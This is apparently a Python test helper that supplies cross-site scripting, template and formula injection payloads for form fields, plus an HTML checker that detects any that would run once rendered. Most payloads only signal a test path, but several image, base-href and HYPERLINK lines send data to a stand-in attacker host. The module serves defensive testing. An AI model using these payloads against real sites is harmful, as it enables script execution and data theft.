"""Hostile text for every field people (or a misbehaving model) can write, and a checker for rendered HTML.

Every payload that would run reports itself the same way: it requests a path under /__xss__ (or calls
alert), so a browser test only has to watch for that path and for dialogs. Each one is at most 120
characters, so it fits a display name, a team name or a badge name as well as a long text.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

MARKER_PATH = "/__xss__"
EVIL_HOST = "evil.example"

# (name, payload). Names are slugs, so a field can be tagged with them.
PAYLOADS: list[tuple[str, str]] = [
    ("script", "<script>fetch('/__xss__?script')</script>"),
    ("script-alert", "<script>alert('xss')</script>"),
    ("img-onerror", "<img src=x onerror=\"fetch('/__xss__?img')\">"),
    ("svg-onload", "<svg onload=\"fetch('/__xss__?svg')\">"),
    ("svg-script", "<svg><script>fetch('/__xss__?svgscript')</script></svg>"),
    ("details-toggle", "<details open ontoggle=\"fetch('/__xss__?toggle')\">d</details>"),
    ("autofocus", "<input autofocus onfocus=\"fetch('/__xss__?focus')\">"),
    ("html-js-link", "<a href=\"javascript:fetch('/__xss__?jslink')\">click me</a>"),
    ("md-js-link", "[click me](javascript:fetch('/__xss__?mdjs'))"),
    ("md-js-link-tab", "[tab link](jav&#x09;ascript:fetch('/__xss__?tab'))"),
    ("md-js-autolink", "<javascript:fetch('/__xss__?autolink')>"),
    ("md-data-link", "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-image-exfil", "![x](http://evil.example/?q=secret)"),
    ("html-image-exfil", "<img src=\"http://evil.example/?q=secret\">"),
    ("attr-break-double", "\"><svg onload=\"fetch('/__xss__?attr')\">"),
    ("attr-break-single", "'><img src=/__xss__?attr2>"),
    ("textarea-break", "</textarea><script>fetch('/__xss__?ta')</script>"),
    ("title-break", "</title><script>fetch('/__xss__?title')</script>"),
    ("json-break", "</script><script>fetch('/__xss__?json')</script>"),
    ("template", "{{7*7}} {% raw %}{{ config }}{% endraw %} ${7*7} #{7*7}"),
    ("style-tag", "<style>body{background:url('/__xss__?css')}</style>"),
    ("style-attr", "<div style=\"background:url(/__xss__?style)\">styled</div>"),
    ("iframe", "<iframe src=\"/__xss__?iframe\"></iframe>"),
    ("object", "<object data=\"/__xss__?object\"></object>"),
    ("embed", "<embed src=\"/__xss__?embed\">"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=/__xss__?meta\">"),
    ("base-href", "<base href=\"http://evil.example/\">"),
    ("entities", "&lt;script&gt;fetch('/__xss__?entity')&lt;/script&gt; &#60;b&#62;"),
    ("fullwidth", "\uff1cscript\uff1efetch('/__xss__?fullwidth')\uff1c/script\uff1e"),
    ("zero-width", "<scr\u200bipt>fetch('/__xss__?zw')</scr\u200bipt> \u202eevil\u202c"),
    ("htmx-admin", "<div hx-get=\"/admin/users\" hx-trigger=\"load\">htmx</div>"),
    ("htmx-marker", "<div hx-get=\"/__xss__?htmx\" hx-trigger=\"load\" hx-swap=\"outerHTML\">hx</div>"),
    ("mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=fetch('/__xss__?mxss')>\">"),
    ("mxss-math", "<math><mtext><table><mglyph><style><img src=x onerror=fetch('/__xss__?math')>"),
    ("formula", "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"x\")"),
]
assert all(len(payload) <= 120 for _, payload in PAYLOADS)
assert len({name for name, _ in PAYLOADS}) == len(PAYLOADS)

# URLs a form or an import might store as a link: the first three are not web addresses at all.
HOSTILE_URLS = [
    "javascript:fetch('/__xss__?url')",
    " JaVaScRiPt:fetch('/__xss__?url2')",
    "data:text/html,<script>fetch('/__xss__?dataurl')</script>",
    "http://x.example/\"><script>fetch('/__xss__?urlbreak')</script>",
]


def all_payloads(separator: str = "\n\n") -> str:
    """The whole corpus as one text, each payload its own paragraph (for long text fields)."""
    return separator.join(payload for _, payload in PAYLOADS)


def tagged(tag: str, payload: str, limit: int = 120) -> str:
    """A payload behind a short tag, cut to fit a field of `limit` characters (unique values for names)."""
    return f"{tag} {payload}"[:limit]


_DANGEROUS_TAGS = {"iframe", "object", "embed", "frame", "frameset", "base", "svg", "math", "style", "noscript",
                   "applet", "portal"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset", "xlink:href"}
_CONTROL = re.compile(r"[\x00-\x20]+")


class _Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        attributes = dict(attrs)
        where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in attrs)}>"[:200]
        # The pages' own drawings (icons from the sprite, badge medallions) are svg with one of these classes;
        # a payload's svg carries none (and its handlers or scripts are caught below anyway).
        own_drawing = tag == "svg" and (attributes.get("class") or "").split(" ")[0] in ("icon", "medallion")
        if tag in _DANGEROUS_TAGS and not own_drawing:
            self.problems.append(f"element {tag}: {where}")
        if tag == "script" and not (attributes.get("src", "") or "").startswith("/static/") \
                and attributes.get("type") != "application/json":
            self.problems.append(f"inline script: {where}")
        if tag == "img" and not (attributes.get("src") or "").startswith(("/static/", "data:image/")):
            self.problems.append(f"image from elsewhere: {where}")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"meta http-equiv: {where}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name}: {where}")
            if name == "style":
                self.problems.append(f"style attribute: {where}")
            if name.startswith("hx-") or name.startswith("data-hx-"):
                if MARKER_PATH in value or (value == "/admin/users" and "load" in attributes.get("hx-trigger", "")):
                    self.problems.append(f"injected htmx attribute: {where}")
            if name in _URL_ATTRIBUTES:
                squashed = _CONTROL.sub("", value).lower()
                if squashed.startswith(("javascript:", "data:text", "vbscript:")) or squashed.startswith(MARKER_PATH):
                    self.problems.append(f"hostile URL in {name}: {where}")
                # Only where it points counts: a query string echoing a search is data, not a resource.
                target = urlsplit(value.strip())
                if name != "href" and (target.path.startswith(MARKER_PATH) or EVIL_HOST in target.netloc):
                    self.problems.append(f"hostile resource in {name}: {where}")


def injections(html: str) -> list[str]:
    """What in this HTML could run or load something a payload asked for (empty when the page is safe)."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    raw = [f"raw payload {name!r} in the page" for name, payload in PAYLOADS if "<" in payload and payload in html]
    return finder.problems + raw
